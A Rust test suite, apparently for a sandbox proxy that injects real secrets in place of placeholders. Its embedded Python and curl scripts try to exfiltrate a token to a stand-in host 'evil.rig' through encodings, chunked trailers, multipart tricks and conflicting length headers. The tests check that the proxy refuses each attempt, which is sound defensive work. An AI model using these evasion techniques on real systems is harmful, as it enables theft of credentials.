//! F61 and F62: what a sandbox holds instead of a secret, used to get the secret, or to carry it elsewhere.
//!
//! Beside the usual criterion: the secret arrives in the header that it is for, and in nothing else that an origin, the
//! sandbox or a reader of the audit record ever sees.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;

use super::client::{assert_answer, assert_refusals, attack};
use crate::support::exeat::{Outcome, Run};
use crate::support::origin::{Origin, Request};
use crate::support::world::World;

const POLICY: &str = "
version: 1
allow:
  allowed.rig: []
  evil.rig: [{}]
secrets:
  KEY: { file: KEYFILE, to: [allowed.rig] }
placeholders: { TOKEN: KEY }
";

/// Put together here, so that nothing that looks like a credential stands in this file.
fn key() -> String {
    format!("ghp_{}", "cAn4ry".repeat(6))
}

/// What scripts here begin with: the placeholder, and a request of any kind with `FIELDS`.
const HELD: &str = "
import base64
T = os.environ['TOKEN']
def b64(text):
    return base64.b64encode(text.encode()).decode()
def ask(what, path='/', method='GET', body=b'', host='allowed.rig', address=None, **fields):
    extra = ''.join(f'{name.replace(\"_\", \"-\")}: {value}\\r\\n' for name, value in fields.items())
    if body and 'transfer_encoding' not in fields:
        extra += f'Content-Length: {len(body)}\\r\\n'
    tls(what, address or ALLOWED, 443, host, request(host, path, method, extra) + body)
";

/// Runs a script in a sandbox that holds a placeholder; the secret is nowhere that anybody here can see.
fn held(world: &World, script: &str) -> Outcome {
    tried(world, run(world), script)
}

fn tried(world: &World, run: Run<'_>, script: &str) -> Outcome {
    let outcome = attack(world, run, &format!("{HELD}{script}"));
    for text in [&outcome.stdout, &outcome.stderr, &outcome.audit] {
        assert!(!text.contains(&key()), "{outcome:#?}");
    }
    outcome
}

fn run(world: &World) -> Run<'_> {
    under(world, POLICY)
}

fn under<'w>(world: &'w World, policy: &str) -> Run<'w> {
    let run = world.run().file("key", key());
    let policy = policy.replace("KEYFILE", run.folder().join("key").to_str().expect("UTF-8"));
    run.policy(&policy)
}

/// Rules that have placeholders replaced elsewhere than in headers; another secret's may go to the other origin.
const REPLACING: &str = "
version: 1
allow:
  allowed.rig:
    - { match: { path: { startsWith: /query } }, placeholders: { in: [query] } }
    - { match: { path: { startsWith: /body } }, placeholders: { in: [body] } }
  evil.rig: [ { placeholders: { in: [query, body] } } ]
secrets:
  KEY: { file: KEYFILE, to: [allowed.rig], methods: [GET, POST] }
  OTHER: { file: KEYFILE, to: [evil.rig] }
placeholders: { TOKEN: KEY, SECOND: OTHER }
";

/// What scripts need that send bodies.
const BODIES: &str = "
U = os.environ['SECOND']
FORM, JSON = 'application/x-www-form-urlencoded', 'application/json'
def post(what, body, path='/body', **fields):
    ask(what, path=path, method='POST', body=body if isinstance(body, bytes) else body.encode(), **fields)
def chunked(*pieces, trailers=b'', extension=b''):
    lines = (b'%x%s\\r\\n%s\\r\\n' % (len(piece), extension, piece) for piece in pieces)
    return b''.join(lines) + b'0\\r\\n' + trailers + b'\\r\\n'
";

/// F61: the right header to the right origin, and the origin echoes what it got: the sandbox reads neither.
#[test]
fn f61_the_origin_gets_the_secret_and_its_echo_is_struck_out() {
    World::each(|world| {
        let outcome = held(
            world,
            "
assert T.startswith('ghp_') and len(T) == 40, T
def whole(what, **fields):
    def f():
        context = ssl._create_unverified_context()
        context.set_alpn_protocols(['http/1.1'])
        with dial(ALLOWED, 443) as plain, context.wrap_socket(plain, server_hostname='allowed.rig') as s:
            extra = ''.join(f'{name.replace(\"_\", \"-\")}: {value}\\r\\n' for name, value in fields.items())
            s.sendall(request('allowed.rig', '/echo', 'GET', extra))
            return drain(s)
    attempt(what, f)
whole('bearer', authorization='Bearer ' + T)
whole('basic', authorization='Basic ' + b64('x-access-token:' + T))
whole('key', x_api_key=T)
ask('none', authorization='Bearer mine')",
        );
        assert!(outcome.stdout.matches("HTTP/1.1 200").count() == 4, "{outcome:#?}");
        let requests = world.allowed.https.requests();
        let sent: Vec<&str> = requests.iter().flat_map(|request| request.header("authorization")).collect();
        let basic = STANDARD.encode(format!("x-access-token:{}", key()));
        assert_eq!(sent, [&format!("Bearer {}", key()), &format!("Basic {basic}"), "Bearer mine"]);
        assert_eq!(requests[2].header("x-api-key"), [key()]);
        assert!(!outcome.stdout.contains(&basic[24..]), "{outcome:#?}");
        assert_eq!(outcome.audit.matches("\"injected\":[\"authorization\"]").count(), 2, "{outcome:#?}");
        assert_eq!(outcome.audit.matches("\"injected\":[\"x-api-key\"]").count(), 1, "{outcome:#?}");
    });
}

/// F61: to another origin that the policy allows, also as a client does that follows a redirect with all its headers.
#[test]
fn f61_to_another_origin() {
    World::each(|world| {
        let outcome = held(
            world,
            "
def evil(what, **fields):
    ask(what, host='evil.rig', address=EVIL, **fields)
evil('bearer', authorization='Bearer ' + T)
evil('basic', authorization='Basic ' + b64('u:' + T))
evil('key', x_api_key=T)
evil('path', path='/' + T)
evil('query', path='/?t=' + T)
evil('body', method='POST', body=b'a' * 100000 + T.encode(), content_type='text/plain')",
        );
        assert_refusals(&outcome, 6);
        assert!(!world.evil.https.inner().contains("ghp_"), "it was sent on");
        outcome.assert_denied("placeholder-misdirected", &[("name", "evil.rig")]);
    });
}

/// F61: in a header that services store and show again, or in two at once.
#[test]
fn f61_in_another_header() {
    World::each(|world| {
        let outcome = held(
            world,
            "
ask('agent', user_agent=T)
ask('cookie', cookie='session=' + T)
ask('alike', x_api_key='mine', x_api_key_2=T)
ask('referer', referer='https://allowed.rig/?t=' + T)
ask('beside', authorization='Bearer ' + T, user_agent=T)
ask('twice', authorization='Bearer ' + T, AUTHORIZATION='Bearer ' + T)
ask('after another', authorization='Bearer mine', AUTHORIZATION='Bearer ' + T)
ask('name', **{T.lower(): T})
ask('method', method=T)",
        );
        assert_refusals(&outcome, 9);
        world.allowed.assert_untouched();
        outcome.assert_denied("placeholder-misdirected", &[("name", "allowed.rig")]);
    });
}

/// F61: one half in each of two headers: what arrives is two halves of nothing.
#[test]
fn f61_split_over_two_headers() {
    World::each(|world| {
        let outcome = held(
            world,
            "
ask('two', authorization='Bearer ' + T[:20], x_api_key=T[20:])
ask('fields', authorization='Bearer ' + T[:20], AUTHORIZATION=T[20:])",
        );
        assert_answer(&outcome, "two", &["HTTP/1.1 200"]);
        assert!(!world.allowed.https.inner().contains(&key()), "it was replaced");
        assert!(!outcome.audit.contains("\"injected\""), "{outcome:#?}");
    });
}

/// F61: in the path and the query, where servers log it, over HTTP/1 and in a pseudo-header of HTTP/2.
#[test]
fn f61_in_the_path_and_in_pseudo_headers() {
    World::each(|world| {
        let outcome = held(
            world,
            "
ask('path', path='/' + T)
ask('within', path='/a/' + T + '/b?c')
ask('query', path='/?access_token=' + T)
ask('escaped', path='/?t=' + ''.join(f'%{ord(c):02x}' for c in T))
ask('coded', path='/' + b64('x' + T))
ask('backwards', path='/' + T[::-1])",
        );
        assert_refusals(&outcome, 6);
        let script = "for url in https://allowed.rig/$TOKEN https://allowed.rig/?t=$TOKEN; do \
            curl -s -o /dev/null -w '%{http_version} %{http_code}\\n' --http2 $url; done";
        let outcome = run(world).bash(script);
        assert_eq!(outcome.stdout, "2 403\n2 403\n", "{outcome:#?}");
        world.allowed.assert_untouched();
    });
}

/// F62: spelled in another way where it may stand as it is: it is not sent on, and not replaced.
#[test]
fn f62_in_another_spelling() {
    World::each(|world| {
        let outcome = held(
            world,
            "
ask('escaped', authorization='Bearer ' + T.replace('_', '%5f'))
ask('unicode', x_api_key=T.replace('_', '\\\\u005f'))
ask('coded', x_api_key=b64(T))
ask('hex', x_api_key=T.encode().hex())
ask('twice coded', authorization='Basic ' + b64('u:' + b64('xx' + T)))
ask('both', authorization='Basic ' + b64(T + ':' + T[::-1]))",
        );
        assert_refusals(&outcome, 6);
        world.allowed.assert_untouched();
    });
}

/// F61: in the body and in trailers: whole, over chunks, coded; the origin gets no request that it could take for one.
#[test]
fn f61_in_a_body_and_in_trailers() {
    World::each(|world| {
        let outcome = held(
            world,
            "
def post(what, body, **fields):
    ask(what, method='POST', body=body, **fields)
def chunked(*pieces, trailers=b''):
    return b''.join(b'%x\\r\\n%s\\r\\n' % (len(piece), piece) for piece in pieces) + b'0\\r\\n' + trailers + b'\\r\\n'
post('whole', T.encode())
post('json', ('{\"text\": \"' + T + '\"}').encode())
post('late', b'x' * 300000 + T.encode() + b'y' * 300000)
post('coded', base64.b64encode(b'a' + T.encode() + b'b'))
post('authorised', T.encode(), authorization='Bearer ' + T)
half = len(T) // 2
post('chunks', chunked(b'a' + T[:half].encode(), T[half:].encode() + b'b'), transfer_encoding='chunked')
post('trailer', chunked(b'a', trailers=b'x-note: ' + T.encode() + b'\\r\\n'), transfer_encoding='chunked')",
        );
        assert_refusals(&outcome, 7);
        assert!(!world.allowed.https.inner().contains("x-note"), "the trailer was sent on");
        let denials = outcome.audit.matches("placeholder-misdirected").count();
        assert_eq!(denials, 7, "{outcome:#?}");
        // It begins like one and is none: it passes, to the last byte.
        let outcome = held(world, "ask('begun', method='POST', body=T[:8].encode())");
        assert_answer(&outcome, "begun", &["HTTP/1.1 200"]);
        assert!(world.allowed.https.requests().iter().any(|request| request.body.starts_with(b"ghp_")));
    });
}

/// F64: over cleartext HTTP to the very origin.
#[test]
fn f64_a_placeholder_in_clear() {
    World::each(|world| {
        let outcome = held(
            world,
            "
clear = request('allowed.rig', extra='Authorization: Bearer ' + T + '\\r\\n')
tcp('clear', ALLOWED, 80, clear)
tls('fronted', ALLOWED, 443, 'allowed.rig', clear.replace(b'allowed.rig', b'evil.rig'))",
        );
        assert_refusals(&outcome, 2);
        world.allowed.assert_untouched();
        outcome.assert_denied("placeholder-misdirected", &[("name", "allowed.rig")]);
    });
}

/// F69: another sandbox's placeholder is any text: it is not replaced.
#[test]
fn f69_another_sandboxes_placeholder() {
    World::each(|world| {
        let first = run(world).bash("echo $TOKEN").succeeded();
        let other = first.stdout.trim().to_owned();
        let script = format!("ask('other', authorization='Bearer {other}')\nassert T != '{other}'");
        let outcome = held(world, &script);
        assert_answer(&outcome, "other", &["HTTP/1.1 200"]);
        let requests = world.allowed.https.requests();
        assert_eq!(requests[0].header("authorization"), [format!("Bearer {other}")]);
        assert!(!outcome.audit.contains("\"injected\""), "{outcome:#?}");
    });
}

/// F61: where a rule has it replaced in the query or the body, in every way that clients write one: it arrives there,
/// over HTTP/1 and HTTP/2, and neither the echo nor the record has it.
#[test]
fn f61_where_a_rule_says_so_it_is_replaced_in_the_query_and_the_body() {
    World::each(|world| {
        let script = format!(
            "{HELD}{BODIES}
ask('query', path='/query?a=' + T + '&b=2')
ask('escaped', path='/query?a=' + ''.join(f'%{{ord(c):02x}}' for c in T))
post('json', '{{\"token\": \"' + T.replace('_', '\\\\u005f') + '\"}}', content_type=JSON)
post('form', 'a=b&token=' + T.replace('_', '%5F'), content_type=FORM)
cut = T.encode()
post('chunks', chunked(b'a', *(cut[i:i + 1] for i in range(len(cut))), b'z'), transfer_encoding='chunked')"
        );
        let outcome = tried(world, under(world, REPLACING), &script);
        assert_eq!(outcome.stdout.matches("HTTP/1.1 200").count(), 5, "{outcome:#?}");
        let curl = "
curl -s --http2 -G https://allowed.rig/query --data-urlencode token=$TOKEN
curl -s --http2 https://allowed.rig/body --data-urlencode token=$TOKEN
curl -s --http2 https://allowed.rig/body -F token=$TOKEN -F file=@/etc/hostname
curl -s https://allowed.rig/body --json '{\"token\": \"'$TOKEN'\"}' -H 'Expect: 100-continue'";
        let second = under(world, REPLACING).bash(curl).succeeded();
        for outcome in [&outcome, &second] {
            let told = format!("{}{}{}", outcome.stdout, outcome.stderr, outcome.audit);
            assert!(!told.contains(&key()), "{outcome:#?}");
        }
        assert_eq!(second.stdout.matches(&"*".repeat(40)).count(), 4, "its echo is struck out: {second:#?}");
        let requests = world.allowed.https.requests();
        let got: Vec<String> = requests
            .iter()
            .map(|request| format!("{} {}", request.uri, String::from_utf8_lossy(&request.body)))
            .collect();
        assert_eq!(got.len(), 9, "{got:#?}");
        assert!(got.iter().all(|text| text.matches(&key()).count() == 1), "{got:#?}");
        for request in requests.iter().filter(|request| !request.header("content-length").is_empty()) {
            assert_eq!(request.header("content-length"), [request.body.len().to_string()]);
        }
        assert!(outcome.audit.contains("\"injected\":[\":query\"]"), "{outcome:#?}");
        assert!(outcome.audit.contains("\"injected\":[\":body\"]"), "{outcome:#?}");
    });
}

/// Fails the test if a request arrived that was not broken off: of such a one the origin has no body.
#[track_caller]
fn assert_none_whole(origin: &Origin) {
    let requests = origin.requests();
    let is_broken = |request: &Request| request.method == "POST" && request.body.is_empty();
    assert!(requests.iter().all(is_broken), "{requests:#?}");
}

/// F61: in a place that the rule does not name, or one that a service shows again, beside one that it does.
#[test]
fn f61_where_a_rule_names_the_query_or_the_body_nothing_else_is_replaced() {
    World::each(|world| {
        let script = format!(
            "{HELD}{BODIES}
ask('query by the other rule', path='/body?a=' + T)
post('body by the other rule', T, path='/query')
ask('path', path='/query/' + T + '?a=' + T)
ask('agent', path='/query?a=' + T, user_agent=T)
ask('method', path='/query?a=' + T, method=T)
ask('method not granted', path='/query?a=' + T, method='PUT')
ask('no rule', path='/?a=' + T)
ask('too often', path='/query?a=' + '&'.join([T] * 65))
post('too often', ' '.join([T] * 65))
head = 'Content-Disposition: form-data; name=\"f\"; filename=\"' + T + '\"'
post('file name', '--b\\r\\n' + head + '\\r\\n\\r\\nx\\r\\n--b--\\r\\n',
    content_type='multipart/form-data; boundary=b')
post('trailer', chunked(T.encode(), trailers=b'x-note: ' + T.encode() + b'\\r\\n'), transfer_encoding='chunked')
tcp('clear', ALLOWED, 80, request('allowed.rig', '/query?a=' + T))"
        );
        let outcome = tried(world, under(world, REPLACING), &script);
        assert_refusals(&outcome, 12);
        assert_none_whole(&world.allowed.https);
        assert_eq!(outcome.audit.matches("placeholder-misdirected").count(), 12, "{outcome:#?}");
        let within = format!(
            "{HELD}{BODIES}
post('extension', chunked(b'x', extension=b';' + T.encode()), transfer_encoding='chunked')
ask('fragment', path='/query?a=b#' + T)
print(T)"
        );
        let outcome = tried(world, under(world, REPLACING), &within);
        let held = outcome.stdout.lines().last().expect("the placeholder").to_owned();
        assert!(!world.allowed.https.inner().contains(&held), "it is sent on: {outcome:#?}");
        let requests = world.allowed.https.requests();
        let is_there = |request: &Request| format!("{request:?}").contains(&key());
        assert!(!requests.iter().any(is_there), "it is replaced: {requests:#?}");
    });
}

/// F61: another secret's placeholder, or to an origin that its secret may not go to, though rules replace there.
#[test]
fn f61_where_a_rule_replaces_it_does_so_for_what_may_go_there_alone() {
    World::each(|world| {
        let script = format!(
            "{HELD}{BODIES}
ask('other in the query', path='/query?a=' + U)
ask('both in the query', path='/query?a=' + T + '&b=' + U)
post('other in the body', U)
post('both in the body', T + ' ' + U)
post('both in JSON', '[\"' + T + '\", \"' + U + '\"]', content_type=JSON)
def evil(what, **fields):
    ask(what, host='evil.rig', address=EVIL, **fields)
evil('query', path='/?a=' + T)
evil('body', method='POST', body=T.encode())
evil('chunks', method='POST', body=chunked(T[:9].encode(), T[9:].encode()), transfer_encoding='chunked')"
        );
        let outcome = tried(world, under(world, REPLACING), &script);
        assert_refusals(&outcome, 8);
        assert_none_whole(&world.allowed.https);
        assert_none_whole(&world.evil.https);
        assert!(!world.evil.https.inner().contains("ghp_"), "it was sent on");
        assert_eq!(outcome.audit.matches("placeholder-misdirected").count(), 8, "{outcome:#?}");
    });
}

/// F62: spelled in another way than such a text spells, or compressed, where it may be replaced as it is.
#[test]
fn f62_in_another_spelling_where_a_rule_replaces() {
    World::each(|world| {
        let script = format!(
            "{HELD}{BODIES}
import gzip
twice = T.replace('_', '%255f')
ask('twice', path='/query?a=' + twice)
ask('coded', path='/query?a=' + b64('x' + T))
post('form twice', 'a=' + twice, content_type=FORM)
post('escaped in JSON', '[\"' + T.replace('_', '%5f') + '\"]', content_type=JSON)
post('twice in JSON', '[\"' + T.replace('_', '\\\\\\\\u005f') + '\"]', content_type=JSON)
post('escaped in text', T.replace('_', '%5f'), content_type='text/plain')
post('coded in the body', b64('x' + T))
post('backwards', T[::-1])
ask('begun', path='/query?a=%' + T)
ask('begun as HTML', path='/query?a=b&' + T)
ask('wide', path='/query?a=%81' + T)
post('begun in JSON', '[\"\\\\u00' + T + '\"]', content_type=JSON)
post('wide in JSON', '\"'.encode('utf-16-le') + T.encode() + '\"'.encode('utf-16-le'), content_type=JSON)
post('in another charset', '\x1b$B' + T, content_type='text/plain; charset=iso-2022-jp')
post('compressed', gzip.compress(T.encode()), content_encoding='gzip')
post('called so', T, content_encoding='identity, br')"
        );
        let outcome = tried(world, under(world, REPLACING), &script);
        assert_refusals(&outcome, 16);
        assert_none_whole(&world.allowed.https);
        assert_eq!(outcome.audit.matches("placeholder-misdirected").count(), 16, "{outcome:#?}");
    });
}

/// F61: in every corner of a query and a body that a rule names: it arrives as often as it was sent, and no other way.
#[test]
fn f61_in_every_corner_of_where_a_rule_replaces() {
    World::each(|world| {
        let script = format!(
            "{HELD}{BODIES}
coded = ''.join(f'%{{ord(c):02X}}' for c in T)
ask('name', path='/query?' + T + '=1&a=' + coded)
ask('alone', path='/query?' + coded)
ask('blanks', path='/query?a=+' + T + '+&b=%20' + coded + '%20')
ask('most', path='/query?a=' + '&a='.join([T] * 64))
post('keys', '{{\"' + T + '\": 1, \"a\": \"' + T + '\", \"a\": \"' + T + '\"}}', content_type=JSON)
post('form', T + '=1&a=+' + T + '+', content_type=FORM)
post('most in a body', ' '.join([T] * 64))
post('expects', T, content_type='text/plain', expect='100-continue')
post('expects and streams', chunked(T.encode()), transfer_encoding='chunked', expect='100-continue')"
        );
        let outcome = tried(world, under(world, REPLACING), &script);
        let requests = world.allowed.https.requests();
        let count = |request: &Request| {
            format!("{} {}", request.uri, String::from_utf8_lossy(&request.body)).matches(&key()).count()
        };
        let counts: Vec<usize> = requests.iter().map(count).collect();
        assert_eq!(counts, [2, 1, 2, 64, 3, 2, 64, 1, 1], "{outcome:#?}");
        assert!(!outcome.audit.contains("\"verdict\":\"deny\""), "{outcome:#?}");
        assert_eq!(requests[2].uri, format!("/query?a=+{key}+&b=%20{key}%20", key = key()));
    });
}

/// F61: in a part of a multipart body, where another reader than ours finds the head of one, or another text.
#[test]
fn f61_in_a_part_that_a_service_may_read_in_another_way() {
    World::each(|world| {
        let script = format!(
            "{HELD}{BODIES}
def parts(what, head, within, parameters='boundary=b'):
    post(what, '--b\\r\\n' + head + '\\r\\n\\r\\n' + within + '\\r\\n--b--\\r\\n',
        content_type='multipart/form-data; ' + parameters)
name = 'Content-Disposition: form-data; name=\"f\"'
file = name + '; filename=\"' + T + '\"'
parts('lines of others', name, 'x\\n--b\\n' + file + '\\n\\nx')
parts('parts of a part', 'Content-Type: multipart/mixed; boundary=c', '--c\\r\\n' + file + '\\r\\n\\r\\nx\\r\\n--c--')
parts('two boundaries', name, '--c\\r\\n' + file + '\\r\\n\\r\\nx\\r\\n--c--', 'boundary=b; boundary=c')
parts('a star', name, '--c\\r\\n' + file + '\\r\\n\\r\\nx\\r\\n--c--', 'boundary=b; boundary*=us-ascii\\'\\'c')
parts('another charset', name + '\\r\\nContent-Type: text/plain; charset=iso-2022-jp', '\x1b$B' + T)
parts('coded', name + '\\r\\nContent-Transfer-Encoding: quoted-printable', '=' + T)
post('the mark of another charset', b'\\xfe\\xffaa' + T.encode(), content_type='text/plain')"
        );
        let outcome = tried(world, under(world, REPLACING), &script);
        assert_refusals(&outcome, 7);
        assert_none_whole(&world.allowed.https);
        assert_eq!(outcome.audit.matches("placeholder-misdirected").count(), 7, "{outcome:#?}");
    });
}

/// F61: in a body that is shorter or longer than its head says, or of which two lengths are said.
#[test]
fn f61_in_a_body_of_another_length_than_is_said() {
    World::each(|world| {
        let script = format!(
            "{HELD}{BODIES}
post('two lengths', T, content_length='5')
post('length and chunks', chunked(T.encode()), transfer_encoding='chunked', content_length='5')
post('chunks of another coding', chunked(T.encode()), transfer_encoding='gzip, chunked')
def breaks(what, extra, body):
    def f():
        context = ssl._create_unverified_context()
        with dial(ALLOWED, 443) as plain, context.wrap_socket(plain, server_hostname='allowed.rig') as s:
            s.sendall(request('allowed.rig', '/body', 'POST', extra) + body)
            s.unwrap().shutdown(socket.SHUT_WR)
            return 'refused'
    attempt(what, f)
breaks('too short', 'Content-Length: 100\\r\\n', T.encode())
breaks('too short a chunk', 'Transfer-Encoding: chunked\\r\\n', b'64\\r\\n' + T.encode())
breaks('no last chunk', 'Transfer-Encoding: chunked\\r\\n', b'28\\r\\n' + T.encode() + b'\\r\\n')"
        );
        let outcome = tried(world, under(world, REPLACING), &script);
        assert_refusals(&outcome, 6);
        assert_none_whole(&world.allowed.https);
        // What is longer is cut where its head says: two halves of nothing.
        let longer = format!(
            "{HELD}{BODIES}
tls('longer', ALLOWED, 443, 'allowed.rig',
    request('allowed.rig', '/body', 'POST', 'Content-Length: 20\\r\\n') + T.encode() + b'\\r\\n\\r\\n')"
        );
        let before = world.allowed.https.requests().len();
        let outcome = tried(world, under(world, REPLACING), &longer);
        let requests = world.allowed.https.requests();
        let [request] = &requests[before..] else { panic!("{outcome:#?}") };
        assert!(request.body.len() == 20 && !key().as_bytes().starts_with(&request.body[..8]), "{request:?}");
    });
}
